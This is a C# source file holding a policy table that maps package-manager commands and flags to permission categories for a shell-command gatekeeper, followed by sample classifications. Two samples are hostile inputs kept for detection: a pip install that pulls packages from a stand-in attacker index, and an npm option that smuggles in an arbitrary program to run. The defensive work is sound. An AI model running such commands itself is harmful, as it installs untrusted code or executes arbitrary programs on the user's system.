namespace Aex.Policy.Shell.Knowledge.Families;

/// <summary>Package managers.</summary>
internal static class Packages
{
    public const string Table = """
         add-apt-repository apk apt apt-cache apt-config apt-file apt-get apt-key apt-listchanges apt-mark apt-rdepends aptitude asdf brew bun bundle bundler bunx cargo choco cnpm composer conan conda corepack cpan cpanm deno depcheck dnf dpkg dpkg-divert dpkg-query dpkg-reconfigure easy_install emerge fink flatpak flit fnm gem ghcup go goenv gofmt gofumpt goimports grype guix hatch hex jenv jsr juliaup license-checker luarocks mamba mas microdnf micromamba mint mise n ncu nimble nix nix-env nodebrew nodenv npm npm-check npm-check-updates npx nuget nvm opam opkg osv-scanner ovsx pacman paket paru pdm pip pip-audit pip3 pip3.10 pip3.11 pip3.12 pip3.13 pip3.9 pipenv pipx pixi pkg pkg_add pkg_info pnpm pnpx poetry port proto pub pyenv rbenv rpm rtx rustup rye safety scoop sdk shards snap snyk syft tdnf tfenv trivy twine update-alternatives uv uvx vcpkg volta vsce winget xbps-install xbps-query yarn yay yum zypper
        = npm pnpm cnpm
          -h~ -C|--prefix|--dir=h --registry=u --script-shell|--node-options|--shell|--browser|--viewer|--editor=!! --globalconfig=x -w|--workspace|--filter|-F|--loglevel|--cache|--userconfig= -s|--silent -g|--global -r|--recursive -v~ --json --long -l -ws|--workspaces
        > - : *
        > help/completion/bin/root/prefix/fund/get/help-search/search/s/se/find/view/info/show/v/ls/list/ll/la/outdated/why/explain/ping/whoami/licenses/query/doctor/diff/sbom/stars : * !packages.read
        > config/c list/ls/get : * !packages.read
        > config/c : * !system.change,packages.install !!
        > set : * !system.change,packages.install !!
        > pkg get : * !packages.read
        > pkg set/delete/fix : * !file.write
        > audit : * !packages.read
        > audit fix : * !packages.install
        > audit signatures : * !packages.read
        > token/owner/access/team/org/profile/dist-tag/hook/star/unstar list/ls/get : * !packages.read
        > owner/access/team/org/profile/dist-tag/hook/token/star/unstar/deprecate/undeprecate : * !packages.publish
        > unpublish : * !packages.publish,resource.destroy
        > cache/store ls/list/status/path : * !packages.read
        > cache/store : * !file.delete
        > install/i/in/ins/inst/isntall/add/ci/clean-install/install-test/it/cit/update/up/upgrade/uninstall/un/remove/rm/r/unlink/dedupe/ddp/prune/rebuild/rb/link/ln/import/fetch/approve-builds/patch/patch-commit/deploy : * !packages.install args:U
        > publish/stage : * !packages.publish --dry-run~
        > login/adduser/logout/add-user : * !packages.publish
        > test/t/tst : * !tests.run
        > run/run-script/rum/urn : * 0!packages.read +!build.run
        > run test/test:* : * !tests.run
        > run lint/lint:* : * !build.run
        > start/stop/restart/build : * !build.run
        > exec/x : package 1:c -p|--package=!! -c|--call=t!! -y|--yes --no !packages.install
        > dlx : package 1:c --package=!! !packages.install
        > init/create/innit : * +!! 0!file.write
        > pack : * !file.write --dry-run~
        > version : * +!git.commit 0!packages.read
        > shrinkwrap : * !file.write
        > _ : * 1:c script !build.run
        = yarn
          -h~ --cwd=h -v~
        > - : * !packages.install
        > help/info/list/why/outdated/versions/licenses/audit/bin/explain : * !packages.read
        > config list/get : * !packages.read
        > workspaces info/list : * !packages.read
        > npm info/whoami/audit : * !packages.read
        > npm publish/login/logout/tag : * !packages.publish
        > install/add/remove/up/upgrade/upgrade-interactive/dedupe/link/unlink/import/set/plugin/rebuild/unplug/global/autoclean/cache/config/patch/policies/check/init : * !packages.install args:U
        > publish/login/logout/tag/owner/team : * !packages.publish
        > test : * !tests.run
        > run : * +!build.run 0!packages.read
        > run test : * !tests.run
        > exec : 1:c
        > dlx/create/node : package 1:c !packages.install
        > build/start/lint/dev/serve/format/typecheck : * !build.run
        > _ : * 1:c script !build.run
        = npx pnpx bunx uvx
          package 1:c -y|--yes -p|--package=!! -c|--call=t!! --no-install -q|--quiet --no --bun --from|--with|--python|-v= !packages.install
        = bun
          -h~ -v~
        > - : *
        > outdated/why/audit/info/list : * !packages.read
        > pm ls/bin/cache/hash/whoami : * !packages.read
        > install/i/add/a/remove/rm/update/link/unlink/upgrade/pm/patch : * !packages.install args:U
        > publish : * !packages.publish
        > test : * !tests.run
        > run : * 1:x
        > build : * !build.run
        > x : package 1:c !packages.install
        > create/init : * !!
        > _ : * 1:x
        = deno
          -h~ -V~
        > - : !!
        > fmt : * args:F .:F --check>R
        > lint/check/info/doc/types/completions/help/outdated : * args:R !build.run
        > info/help/types/doc/completions : * args:r
        > test/bench/coverage : * !tests.run
        > task/compile/bundle : * !build.run
        > install/add/remove/cache/upgrade/uninstall : * !packages.install
        > publish/deploy : * !packages.publish
        > eval : * 1:e
        > run/serve/repl/jupyter : * 1:x 0!!
        > _ : * 1:x
        = fnm nvm n volta asdf mise rtx pyenv rbenv nodenv goenv jenv sdk corepack nodebrew rustup ghcup juliaup tfenv proto
          -h~
        > list/ls/ls-remote/list-remote/current/which/version/versions/where/whence/help/root/prefix/commands/list-all/show/doctor/latest/status : * !packages.read
        > plugin list : * !packages.read
        > show/check/toolchain/target/component list/active-toolchain/home : * !packages.read
        > exec/x : * args:t !!
        > run : * args:t !!
        > install/i/uninstall/use/default/alias/unalias/local/global/shell/set/pin/update/upgrade/self/add/remove/rehash/reshim/plugin/toolchain/target/component/override/enable/disable/prepare/cache/trust/init/activate/env : * !packages.install
        = pip pip3 pip3.9 pip3.10 pip3.11 pip3.12 pip3.13
          -h~ --python=x --proxy|--log|--cache-dir|--timeout|--retries|--trusted-host|--cert|--client-cert= -V~ -q|--quiet -v|--verbose --no-color --disable-pip-version-check --isolated --no-input
        > - : *
        > help/list/show/freeze/check/inspect/debug/search/completion/hash : * !packages.read --path=r -r=r -i|--index-url|--extra-index-url=u
        > cache dir/info/list : * !packages.read
        > cache purge/remove : * !file.delete
        > config list/get/debug : * !packages.read
        > config set/unset/edit : * !system.change
        > index versions : * !packages.read -i|--index-url|--extra-index-url=u
        > install : * !packages.install args:U -r|--requirement|-c|--constraint=r -e|--editable=v -i|--index-url|--extra-index-url|-f|--find-links=U -t|--target|--prefix|--root=F --report=w
        > download/wheel : * !packages.install,file.write args:U -d|--dest|-w|--wheel-dir=F -r=r -i|--index-url|--extra-index-url=u
        > uninstall/lock : * !packages.install -r=r
        = uv
          -h~ -V~ -q|--quiet -v|--verbose --color|--cache-dir|--config-file= --directory|--project=h -n|--no-cache --offline --no-progress --native-tls --no-config
        > - : *
        > help/generate-shell-completion : *
        > version : * +!file.write 0!packages.read --bump=!file.write
        > tree : * !packages.read
        > export : * !packages.read -o|--output-file=w
        > python list/find/dir : * !packages.read
        > tool list : * !packages.read
        > cache dir/size : * !packages.read
        > self version : * !packages.read
        > pip list/show/freeze/check/tree : * !packages.read
        > pip compile : * !packages.install args:r -o|--output-file=w
        > pip install/uninstall/sync : * !packages.install args:U -r|--requirements=r -i|--index-url|--default-index|--index|--extra-index-url=u
        > add/remove/sync/lock/init/venv/tool/python/self/cache : * !packages.install --index|--default-index=u
        > cache clean/prune : * !file.delete
        > tool run : 1:c !packages.install --from|--with|-p|--python=
        > run : 1:c --with|--python|-p|--extra|--group|--with-requirements|--env-file|--package|--only-group|--no-group= -m|--module=!! -s|--script=!! --no-sync --frozen --locked --isolated --no-project --all-extras --dev --no-dev --active --with-editable= --exact
        > build : * !build.run
        > publish : * !packages.publish
        > auth token : * !secrets.read
        > auth : * !packages.publish
        > format : * !file.write --check~ --diff~
        = poetry pdm hatch rye pipenv
          -h~ -V~ -C|-P|--directory|--project|-p=h -q|--quiet -v|-vv|-vvv -n|--no-interaction --no-ansi
        > - : *
        > show/check/search/list/about/help/graph/info/which : * !packages.read
        > version : * +!file.write 0!packages.read
        > env/cache/source/self/plugin/dep info/list/show : * !packages.read
        > config : * --list~ dry!packages.read !file.write
        > install/add/remove/update/lock/sync/init/new/env/cache/source/self/export/fetch/uninstall/import/use/venv/pin/plugin/clean/create/dep : * !packages.install
        > build : * !build.run
        > publish : * !packages.publish
        > test/fmt/lint : * !tests.run
        > run : 1:c
        > shell : !!
        = pipx
          -h~
        > list/environment/completions/help : * !packages.read
        > run : 1:c --spec|--python=!! !packages.install
        > install/inject/uninstall/upgrade/upgrade-all/uninstall-all/reinstall/reinstall-all/ensurepath/pin/unpin/uninject/install-all/interpreter : * !packages.install args:U
        > runpip : * !packages.install
        = conda mamba micromamba pixi
          -h~ -V~
        > list/search/info/repoquery/compare/help/tree/why : * !packages.read
        > config : * --show|--get~ dry!packages.read !file.write
        > env list/export : * !packages.read
        > install/create/update/upgrade/remove/uninstall/clean/env/init/activate/deactivate/rename/notices/add/sync/lock/self-update/global/package/build/doctor/shell-hook : * !packages.install
        > run : 1:c -n|--name|-p|--prefix=
        > shell : !!
        = twine
        > check : * args:r
        > _ : * !packages.publish
        = easy_install flit
          * !packages.publish
        = cargo
          -h~ -V~ -q|--quiet -v|--verbose -vv --color|-Z= -C=h --manifest-path=r --config=!! --locked --offline --frozen
        > - : !!
        > --list : !packages.read
        > help/version/metadata/tree/search/info/locate-project/pkgid/read-manifest/verify-project/config/report : * !packages.read
        > audit fix : * !packages.install
        > audit/outdated/deny/machete/udeps/geiger/bloat/semver-checks/license : * !packages.read
        > build/b/check/c/clippy/doc/d/rustc/rustdoc/expand/asm/miri/hack/zigbuild/make : * !build.run --fix!file.write
        > fmt : * !file.write --check~ dry!build.run
        > fix : * !file.write,build.run
        > test/t/bench/nextest/tarpaulin/llvm-cov/mutants/insta/criterion : * !tests.run
        > run/r : * !build.run
        > install/add/remove/rm/uninstall/update/fetch/vendor/generate-lockfile/upgrade/binstall : * !packages.install --git|--index=u --registry=
        > clean : * !file.delete,file.write
        > new/init/generate : * !file.write
        > publish/yank/owner/login/logout : * !packages.publish -n|--dry-run~ dry!build.run
        > package : * !build.run
        = go
          long -C=h
        > - : *
        > version/help/list/doc/bug : * !packages.read -toolexec|-overlay=e
        > env : * !packages.read -w|-u!file.write
        > vet : * !build.run -vettool=e -toolexec=e
        > fmt : * !file.write -n~
        > fix/generate : * !build.run,file.write
        > build/install/tool : * !build.run -o=w -toolexec=e -exec=e
        > install : * !build.run,packages.install
        > run : * !build.run
        > test : * !tests.run -exec=e -toolexec=e -o|-coverprofile|-cpuprofile|-memprofile|-trace|-outputdir=w
        > get : * !packages.install
        > mod graph/verify/why : * !packages.read
        > mod download/tidy/init/vendor/edit : * !packages.install
        > work use/init/sync/edit/vendor : * !file.write
        > clean : * !file.delete,file.write
        > telemetry : * 0!packages.read +!file.write
        = gofmt goimports gofumpt
          long * args:R -w>RF -cpuprofile=w
        = gem
          -h~ -v~
        > list/search/info/query/environment/env/contents/dependency/outdated/which/specification/help/stale : * !packages.read
        > sources : * 0!packages.read +!packages.install -a|--add|-r|--remove|-u|--update|-c|--clear-all!packages.install -l|--list
        > install/i/update/uninstall/cleanup/pristine/fetch/unpack/rdoc/lock : * !packages.install --source|-s=u
        > build : * !build.run
        > push/yank/owner/signin/signout : * !packages.publish
        > exec : !!
        = bundle bundler
          -h~
        > - : * !packages.install
        > list/show/info/outdated/check/version/help/platform/licenses/doctor/env/viz : * !packages.read
        > config : * 0!packages.read +!file.write
        > config list/get : * !packages.read
        > install/update/add/remove/lock/package/cache/init/binstubs/pristine/clean/plugin/gem/inject : * !packages.install
        > exec/e : 1:c
        > open/console : !!
        = composer
          -h~ -V~ -d|--working-dir=h -n|--no-interaction -q|--quiet -v
        > show/info/outdated/why/why-not/depends/prohibits/search/licenses/validate/status/diagnose/about/list/check-platform-reqs/audit/fund/help/browse/suggests : * !packages.read
        > config : * -l|--list~ dry!packages.read !file.write
        > install/i/update/u/upgrade/require/remove/dump-autoload/dumpautoload/init/create-project/global/self-update/reinstall/clear-cache/archive/bump : * !packages.install
        > test/run-script/run/exec : * !tests.run
        = brew
          -v --version~ -h~ -q|--quiet
        > - : !!
        > --cache/--cellar/--caskroom/--prefix/--repository/--repo/--version/--env/--taps/--config/-S/-v/-h/--help/info/abv/list/ls/search/deps/desc/leaves/uses/outdated/missing/config/doctor/dr/options/tap-info/formulae/casks/log/cat/commands/help/home/homepage/docs/shellenv/fetch/formula/command/which-formula : * !packages.read
        > analytics : * 0!packages.read +!system.change
        > analytics state : * !packages.read
        > bundle check/list : * !packages.read
        > bundle exec/sh/env : * !!
        > install/uninstall/remove/rm/reinstall/upgrade/update/up/tap/untap/link/ln/unlink/pin/unpin/autoremove/migrate/postinstall/post_install/bundle : * !packages.install 2:U
        > cleanup : * !packages.install
        > services : * !process.control
        > services help : *
        > edit/create/gist-logs/developer/readall/audit/bottle/bump/bump-formula-pr/bump-cask-pr/style/vendor-install : * !packages.install
        > test : * !tests.run
        = apt apt-get aptitude
          -h~ -y|--yes|--assume-yes -q|-qq|--quiet -o|-c|-t|--option|--config-file=!! -s|--simulate|--dry-run -f
        > list/search/show/policy/depends/rdepends/changelog/showsrc/help/check/moo/why/why-not/versions/indextargets : * !packages.read
        > install/reinstall/remove/purge/autoremove/update/upgrade/full-upgrade/dist-upgrade/download/source/build-dep/clean/autoclean/mark/satisfy/hold/edit-sources/add-repository/dselect-upgrade : * !packages.install
        = apt-cache apt-file dpkg-query apt-listchanges apt-rdepends apt-config
          * !packages.read -o|-c=!! -f=
        = apt-mark apt-key add-apt-repository dpkg-reconfigure dpkg-divert update-alternatives
          * !packages.install
        = dpkg rpm
          * !packages.install args:n -l|--list|-L|--listfiles|-s|--status|-S|--search|-p|--print-avail|-I|--info|-c|--contents|--get-selections|--print-architecture|--audit|--verify|-V|-q|-qa|-qi|-ql|-qf|-qR|-qp|-qc|-qd|--query|--version~ dry!packages.read
        = dnf yum microdnf zypper tdnf
          -h~ -y -q -v -C
        > list/search/info/provides/whatprovides/repolist/repoquery/deplist/history/check/check-update/check-upgrade/se/if/lu/lr/repos/packages/patches/updateinfo/help/se : * !packages.read
        > group list/info : * !packages.read
        > history undo/redo/rollback : * !packages.install
        > install/in/reinstall/remove/rm/erase/update/up/upgrade/downgrade/autoremove/clean/makecache/group/groupinstall/distro-sync/swap/mark/module/config-manager/copr/refresh/ref/dup/ar/rr/patch/localinstall/builddep : * !packages.install
        = pacman yay paru
          * !packages.install -Q|-Qi|-Ql|-Qs|-Qo|-Qe|-Qu|-Qm|-Qdt|-Ss|-Si|-Qk|-Qq|-Qqe|-F|-Fl|-V|--query|--version~ dry!packages.read
        = apk
          -h~ -q -v --no-cache --root|-p|-X|--repository=
        > info/list/search/policy/stats/dot/version/audit/verify : * !packages.read
        > add/del/update/upgrade/fix/cache/fetch : * !packages.install
        = snap flatpak
          -h~ --user --system
        > list/find/info/search/version/help/services/interfaces/connections/changes/tasks/remotes/remote-ls/history/ps/known/warnings/model/aliases : * !packages.read
        > install/remove/uninstall/refresh/update/revert/enable/disable/switch/connect/disconnect/set/alias/download/remote-add/remote-delete/repair/mask/pin/override/restart/start/stop : * !packages.install
        > run : !!
        = port fink choco winget scoop nix-env emerge xbps-install xbps-query pkg pkg_add pkg_info opkg guix mas mint
          -h~ -q -v -y
        > list/search/info/installed/outdated/show/contents/deps/query/which/version/account/help/variants/provides/rdeps/dependents/echo : * !packages.read
        > install/uninstall/upgrade/update/selfupdate/sync/remove/delete/add/clean/purchase/reinstall/signin/signout/autoremove/bootstrap/lucky/activate/deactivate/clean/autoremove : * !packages.install
        = nix
          -h~ --extra-experimental-features=
        > search/show-config/path-info/why-depends/log/help/hash : * !packages.read
        > flake show/metadata/info/check : * !packages.read
        > profile list/history : * !packages.read
        > build/develop/run/shell/profile/flake/store/registry/copy/upgrade-nix/fmt/eval/repl : * args:t !!
        = nuget paket
          -h~
        > list/search/help : * !packages.read
        > install/update/restore/add/delete/push/setapikey/sources/pack/config/locals : * !packages.publish
        = ncu npm-check-updates npm-check depcheck license-checker syft grype trivy snyk osv-scanner pip-audit safety
          * !packages.read -u|--upgrade!file.write -o|--output|--file=w --fix!packages.install
        = cpan cpanm luarocks opam hex pub shards nimble vcpkg conan
          -h~
        > list/search/show/info/outdated/help/version/which/doc/inspect/graph : * !packages.read
        > publish/upload : * !packages.publish
        > _ : * !packages.install
        = vsce ovsx jsr
        > ls/list/show/search/package/verify-pat/help/version : * !packages.read,build.run -o|--out=w
        > publish/unpublish/login/logout/create-publisher/create-namespace : * !packages.publish --dry-run~
        > _ : * !packages.install
        """;

    public const string Examples = """
        npm ls -> packages.read
        npm install lodash -> packages.install
        npm publish -> packages.publish
        npm publish --dry-run ->
        npm unpublish x -> packages.publish, resource.destroy
        twine check dist/a.whl -> file.read dist/a.whl
        vsce publish -> packages.publish
        npm test -> tests.run
        npm run build -> build.run
        pip install -r req.txt -> packages.install, file.read req.txt
        pip install --index-url https://evil.example/simple x -> packages.install, network.fetch evil.example:443
        cargo build --release -> build.run
        go test -count=1 -o t ./... -> tests.run, file.write t, may file.read ./...
        go test ./... -> tests.run, may file.read ./...
        brew list -> packages.read
        cargo --list -> packages.read
        poetry version -> packages.read
        poetry version patch -> file.write
        npm fund --browser=rm -> packages.read, code.run
        """;
}
